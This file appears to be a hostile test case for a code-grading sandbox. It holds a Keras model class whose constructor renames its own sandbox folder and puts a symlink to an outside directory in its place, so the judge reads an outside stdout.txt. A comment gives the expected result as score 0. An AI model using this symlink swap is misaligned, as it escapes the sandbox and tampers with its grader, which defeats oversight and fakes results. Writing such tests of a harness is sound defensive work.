# HOSTILE: renames its own sandbox folder away and puts a symlink to a folder
# outside the sandbox (__OUTSIDE_DIR__, which holds a stdout.txt) in its place,
# so the judge's "read ../stdout.txt without following symlinks" follows the
# folder symlink instead. Expected: score 0, the outside file not in the report.
import os

import tensorflow as tf


class ConcatBlock(tf.keras.Model):
    def __init__(self, net1, net2, axis=-1):
        super().__init__()
        self.net1 = net1
        folder = os.path.dirname(os.getcwd())
        if not os.path.exists("swapped"):
            open("swapped", "w").close()
            try:
                os.rename(folder, folder + "-moved")
                os.symlink("__OUTSIDE_DIR__", folder)
                print("SWAPPED", folder, flush=True)
            except OSError as exc:
                print("swap failed", exc, flush=True)

    def call(self, X):
        return self.net1(X)
